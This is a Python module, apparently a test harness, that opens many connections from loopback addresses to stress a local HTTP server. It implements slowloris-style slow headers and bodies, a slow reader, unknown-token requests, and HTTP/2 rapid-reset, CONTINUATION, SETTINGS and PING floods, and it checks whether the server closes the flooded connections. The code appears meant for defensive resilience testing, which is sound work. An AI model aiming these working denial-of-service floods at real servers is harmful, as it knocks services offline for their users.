"""Clients that try to keep others out. Each attack is a process of its own, from many addresses of 127.0.0.0/8."""

import asyncio
import itertools
import multiprocessing
import os
import random
import resource
import signal
import socket
import ssl

GET = b"GET / HTTP/1.1\r\nhost: x\r\n\r\n"
HEAD = b"POST /plants HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\nauthorization: Bearer %s\r\n"


# HTTP/2 (RFC 9113): types and flags of frames, and the fields GET, / and https of HPACK's static table.
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
REQUEST = b"\x82\x84\x87"
CANCEL = (8).to_bytes(4)

# More frames than any server should read, and how many bytes of them are written at a time.
FLOOD_FRAMES = 100_000
WRITE_BYTES = 16 << 10

# A connection that is open this long after the flood has not been closed because of it.
FLOOD_SECONDS_MAX = 5


class Attack:
    """Starts an attack, and stops it at the end of a `with` block. `reconnect_s`: how long an attacker waits, at least and at most,
    until it connects again after the server has closed its connection."""

    def __init__(self, behaviour, address, connections, *, tls=False, reconnect_s=(10, 20), **options):
        self.connected = multiprocessing.Event()
        # Floods that have ended, and those of them that ended because the server closed the connection.
        self.floods = multiprocessing.Array("i", 2)
        if behaviour is flood:
            options["floods"] = self.floods
        arguments = (behaviour, address, connections, tls, reconnect_s, options, self.connected)
        self.process = multiprocessing.Process(target=run, args=arguments, daemon=True)

    def __enter__(self):
        self.process.start()
        if not self.connected.wait(60):
            raise RuntimeError("the attack does not begin")
        return self

    def __exit__(self, *_):
        self.process.terminate()
        self.process.join(10)


def run(behaviour, address, connections, tls, reconnect_s, options, connected):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # Real attackers do not take their processor time from the server.
    os.nice(19)
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    asyncio.run(attack(behaviour, address, connections, tls, reconnect_s, options, connected))


async def attack(behaviour, address, connections, tls, reconnect_s, options, connected):
    host, port = address.split(":")
    how = {"host": host, "port": int(port), "limit": 4096, "ssl": http2_over_tls() if tls else None}
    sources = itertools.cycle(f"127.{a}.{b}.9" for a in range(1, 5) for b in range(1, 65))
    tasks = []
    for number, source in zip(range(connections), sources):
        client = keep_connected(behaviour, {**how, "local_addr": (source, 0)}, reconnect_s, options)
        tasks.append(asyncio.create_task(client))
        if number % 100 == 99:
            await asyncio.sleep(0.005)
    await asyncio.sleep(0.5)
    connected.set()
    await asyncio.gather(*tasks)


def http2_over_tls():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


async def keep_connected(behaviour, how, reconnect_s, options):
    """Connects again some seconds after the server has closed the connection."""
    while True:
        try:
            reader, writer = await asyncio.open_connection(**how)
            try:
                await behaviour(reader, writer, **options)
            finally:
                writer.close()
        except (OSError, asyncio.IncompleteReadError):
            pass
        await asyncio.sleep(random.uniform(*reconnect_s))


async def idle(reader, writer):
    """A request without a token, once a minute."""
    while True:
        writer.write(GET)
        await reader.readuntil(b"\r\n\r\n")
        await asyncio.sleep(60)


async def unknown_tokens(reader, writer, tokens, pause):
    """Well-formed tokens that do not exist."""
    while True:
        token = random.choice(tokens)
        writer.write(HEAD % token + b"content-length: 2\r\n\r\n{}")
        head = await reader.readuntil(b"\r\n\r\n")
        if b"connection: close" in head:
            return
        await asyncio.sleep(pause)


async def slow_headers(reader, writer):
    """A byte every few seconds."""
    for byte in HEAD % b"x":
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(a_few_seconds())


def a_few_seconds():
    """Random, because clients on many machines do not act in step."""
    return 1.5 + 3 * random.random()


async def slow_body(reader, writer, token):
    """A body that never ends, with a valid token."""
    writer.write(HEAD % token + b"content-length: 20000\r\n\r\n")
    for _ in range(10000):
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(a_few_seconds())


async def slow_reader(reader, writer):
    """Asks for many documents and reads a byte of them now and then."""
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    writer.transport.pause_reading()
    writer.write(b"GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n" * 200)
    await asyncio.sleep(300)


async def flood(reader, writer, frames, floods):
    """Frames that serve no request, as fast as the server reads them."""
    closed = asyncio.create_task(read_until_closed(reader))
    try:
        for start in range(0, len(frames), WRITE_BYTES):
            if closed.done():
                break
            writer.write(frames[start : start + WRITE_BYTES])
            await writer.drain()
            await asyncio.sleep(0)  # read what has arrived
        await asyncio.wait([closed], timeout=FLOOD_SECONDS_MAX)
        is_closed = closed.done()
    except OSError:
        is_closed = True
    finally:
        closed.cancel()
    floods[0] += 1
    floods[1] += is_closed


async def read_until_closed(reader):
    try:
        while await reader.read(4096):
            pass
    except OSError:
        pass


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def http2_flood(frames):
    """The start of a connection, and then these frames."""
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + b"".join(frames)


def rapid_reset():
    streams = range(1, 2 * FLOOD_FRAMES, 2)
    request = lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST)
    return http2_flood(request(stream) + frame(RST_STREAM, 0, stream, CANCEL) for stream in streams)


def continuation_flood():
    """Headers without an end: one small header in each frame."""
    headers = [frame(CONTINUATION, 0, 1, b"\x00\x01x\x00")] * FLOOD_FRAMES
    return http2_flood([frame(HEADERS, END_STREAM, 1, REQUEST), *headers])


def settings_flood():
    """Each frame has the setting that push is off."""
    return http2_flood([frame(SETTINGS, 0, 0, (2).to_bytes(2) + (0).to_bytes(4))] * FLOOD_FRAMES)


def ping_flood():
    return http2_flood([frame(PING, 0, 0, bytes(8))] * FLOOD_FRAMES)
